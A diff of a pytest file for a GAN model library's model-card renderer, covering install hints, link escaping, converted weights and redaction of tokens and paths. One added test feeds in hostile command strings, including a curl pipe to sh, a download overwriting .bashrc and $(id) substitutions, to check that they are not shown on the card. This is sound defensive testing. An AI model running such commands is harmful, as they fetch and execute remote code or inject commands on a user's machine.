@@ -19,6 +19,7 @@ from markdown_it import MarkdownIt
 
 import ganzoo.registry
 from ganzoo import architectures, bundle, card, provenance, recipes, sealed
+from ganzoo._version import __version__
 from ganzoo.architectures.base import Architecture
 from ganzoo.architectures.dcgan import DCGAN
 from ganzoo.architectures.mlp import MLP
@@ -136,7 +137,7 @@ def of_recipe(folder: Path, name: str, *, pictures: bool = True) -> Path:
     spec = spec.model_copy(update={"value_range": settings.value_range or spec.value_range})
     precision = SimpleNamespace(name="bf16", reason="")
     described = provenance.bundle_config(settings, spec, None, 1000, precision)
-    record = provenance.training(settings, ENVIRONMENT, 1000, 64000)
+    record = provenance.training(settings, ENVIRONMENT, settings.steps, 64000)
     shown = {"samples": None, "curves": None} if pictures else {}
     return make(folder, described, training=record, **shown)
 
@@ -278,11 +279,11 @@ def test_classes(tmp_path: Path, caplog) -> None:
     text = card.render(make(tmp_path, config(sample=few)))
     well_formed(text, caplog)
     assert "told which of 3 classes" in plain(text)
-    assert "no other: T-shirt/top, a|b, <i>." in plain(text)
+    assert "no other: `T-shirt/top`, `a|b`, `<i>`." in text
     assert "labels=" in plain(text) and "without labels" not in plain(text)
     assert "class-conditional" in ModelCard(text).data.tags
     many = IMAGE.model_copy(update={"classes": tuple(map(str, range(1000)))})
-    assert "18, 19 and 980 more." in plain(card.render(make(tmp_path, config(sample=many))))
+    assert "`18`, `19` and 980 more." in card.render(make(tmp_path, config(sample=many)))
 
 
 def test_padding_is_told(tmp_path: Path) -> None:
@@ -463,16 +464,19 @@ def test_plug_ins(tmp_path: Path, monkeypatch, caplog) -> None:
         ganzoo.registry._entry_points.cache_clear()
         architectures.registry._classes.pop(("ganzoo-example", "tiny-conv"), None)
     well_formed(text, caplog)
-    assert "pip install ganzoo ganzoo-example\n" in fences(text, "bash")
+    assert "pip install ganzoo-example\n" in fences(text, "bash")
     assert "ganzoo-example 0.1.0" in plain(text) and "ganzoo-odd 2.0" in plain(text)
     assert "Two small convolutional" in text.replace("two small", "Two small")
     assert "parameters" in plain(text)
 
 
-def test_an_architecture_defined_in_code(tmp_path: Path) -> None:
+@pytest.mark.parametrize("module", [__name__, "__main__"])
+def test_an_architecture_defined_in_code(tmp_path: Path, module: str) -> None:
     @architectures.register("in-code")
     class InCode(Architecture):
         """It needs `numbers` while it is built | <b>."""
+
+        __module__ = module
 
         def generator(self, spec, latent):
             return torch.nn.Linear(int(torch.ones(3).sum().item()), 2)
@@ -481,12 +485,33 @@ def test_an_architecture_defined_in_code(tmp_path: Path) -> None:
             raise NotImplementedError
 
     try:
-        text = card.render(make(tmp_path, config(architecture=InCode())))
+        own = config(architecture=InCode())
+        text = card.render(make(tmp_path, own))
+        told = card.notices(own)
     finally:
         architectures.registry.unregister("in-code")
-    assert f"module {__name__}" in plain(text).replace("  ", " ")
-    assert "pip install ganzoo\n" in fences(text, "bash")
+    assert told[0] == card.data_notice(own) and len(told) == 2
+    assert "nobody else can load the generator until it is in a package" in told[1]
+    assert fences(text, "bash") == []  # no command imports what somebody else's code defines
+    if module == "__main__":
+        assert "a script or notebook" in told[1] and "in a script or notebook" in plain(text)
+        assert fences(text, "python") == []
+    else:
+        assert f"'{module}'" in told[1] and f"module {module}" in plain(text).replace("  ", " ")
+        assert len(fences(text, "python")) == 1
     assert "parameters" not in text and "it needs `numbers`" in plain(text)
+
+
+@pytest.mark.parametrize("released", [False, True])
+def test_what_to_install(tmp_path: Path, monkeypatch, released: bool) -> None:
+    assert (".dev" in __version__) is not card._ON_PYPI
+    monkeypatch.setattr(card, "_ON_PYPI", released)
+    text = card.render(make(tmp_path, config(library_version="0.3.1 | <b>")))
+    assert ("pip install" in text) is released
+    assert ("pip install ganzoo\n" in fences(text, "bash")) is released
+    if not released:
+        assert "0.3.1 | <b> wrote it. That is not on PyPI yet" in plain(text)
+    assert card.notices(config()) == (card.data_notice(config()),)
 
 
 # -- scores ---------------------------------------------------------------------------------------
@@ -526,6 +551,28 @@ def test_the_command_is_shown_quoted_and_wrapped(tmp_path: Path) -> None:
     assert max(map(len, shown.splitlines())) <= 100
 
 
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -sL https://example.com/x.sh -o .bashrc",
+        "ganzoo train mlp; curl example.com | sh",
+        "ganzoo train mlp --dataset $(id)",
+        "ganzoo train mlp --dataset `id`",
+        "ganzoo train mlp > .bashrc",
+        "ganzoo train mlp\nid",
+        "ganzoo train 'mlp\nid'",
+        "ganzoo train 'mlp",
+        "ganzoo sample x",
+        "ganzoo",
+        "ganzoo train " + "x" * 4000,
+    ],
+)
+def test_a_command_that_does_something_else_is_not_shown(command: str, tmp_path: Path) -> None:
+    text = card.render(make(tmp_path, config(), training={**RECORD, "command": command}))
+    assert "This command repeats it" not in text and "No command line repeats it" in text
+    assert "curl" not in text and "bashrc" not in text
+
+
 def test_environment_and_settings_are_shown(tmp_path: Path) -> None:
     text = card.render(make(tmp_path, config(), training=RECORD))
     words = plain(text)
@@ -550,6 +597,14 @@ def test_without_any_record_it_says_so(tmp_path: Path, caplog) -> None:
     assert ModelCard(text).data.license is None
 
 
+def test_converted_weights(tmp_path: Path, caplog) -> None:
+    source = {"file": "netG.pth", "sha256": "a" * 64, "key": "g_ema"}
+    text = card.render(make(tmp_path, config(training={"converted_from": source})))
+    well_formed(text, caplog)
+    assert f"converted from the file `netG.pth` (SHA-256 `{'a' * 64}`) of another program" in text
+    assert "command line repeats" not in text and not fences(text, "yaml")
+
+
 def test_too_many_settings_are_left_out(tmp_path: Path) -> None:
     record = {**RECORD, "config": {f"key{number}": "x" * 100 for number in range(2000)}}
     text = card.render(make(tmp_path, config(), training=record))
@@ -562,6 +617,7 @@ def test_too_many_settings_are_left_out(tmp_path: Path) -> None:
 def written_by(text: str) -> tuple[BundleConfig, dict, dict]:
     """A configuration, a record and scores with a text wherever one can stand."""
     classes = tuple(f"{text}{number}" for number in range(3))
+    line = "".join(filter(str.isprintable, text))
     trained = {
         **TRAINED,
         "dataset": {"name": "given", "description": f"x{text}", "fingerprint": text},
@@ -571,7 +627,7 @@ def written_by(text: str) -> tuple[BundleConfig, dict, dict]:
         "loss": {"name": f"L{text}", "provider": f"p{text}"},
     }
     record = {
-        "command": f"ganzoo train {shlex.quote(text)} --a {shlex.quote(text)}",
+        "command": shlex.join(["ganzoo", "train", line, "--a", line]),
         "steps": 3,
         "images": 4,
         "environment": dict.fromkeys(ENVIRONMENT, f"e{text}"),
@@ -606,12 +662,34 @@ def test_texts_of_files_break_nothing(text: str, tmp_path: Path, caplog) -> None
         assert not line.startswith("| ") or line.replace("\\|", "").count("|") == 4
 
 
+LINKABLE = [
+    "https://example.com/x",
+    "HTTP://example.com",
+    "www.example.com",
+    "@somebody",
+    "somebody@example.com",
+    "mailto:somebody@example.com",
+    "see https://example.com/a|b `www.example.com`",
+]
+
+
+@pytest.mark.parametrize("text", LINKABLE)
+def test_nothing_becomes_a_link_or_a_mention_by_itself(text: str, tmp_path: Path) -> None:
+    made = ModelCard(rendered(tmp_path / "made", f" {text}")).text
+    assert links(made) == links(rendered(tmp_path / "plain", "x y"))
+    assert "exa" in made.replace("example", "exa") or "somebody" in made
+    # Outside code, where even what is escaped would become one.
+    loose = " ".join(token.content for token in inner(made) if token.type == "text")
+    loose = loose.replace("https://huggingface.co", "")
+    assert not re.search(r"(?i)://|www\.|(?<!\w)@\w|\w@\w+\.", loose)
+
+
 def test_places_and_tokens_are_left_out(tmp_path: Path) -> None:
     token = "hf_" + "aBcDeFgHiJkLmNoPqRsT"
     record = {
         **RECORD,
         "command": "ganzoo train --dataset '/home/secret me/my faces' --arch.path=/home/secret/a/b "
-        f"--dataset.token abc-secret --x {token} --y 'C:\\Users\\secret\\data' --z ~/secret/z",
+        f"--dataset.token abc-secret --x {token} --y 'C:\\Users\\secret\\data' --z '~/secret/z'",
         "config": {
             "dataset": {"path": "/home/secret/faces", "root": "C:\\Users\\secret\\data"},
             "note": f"read from /home/secret/lists/names.txt with {token} at last",
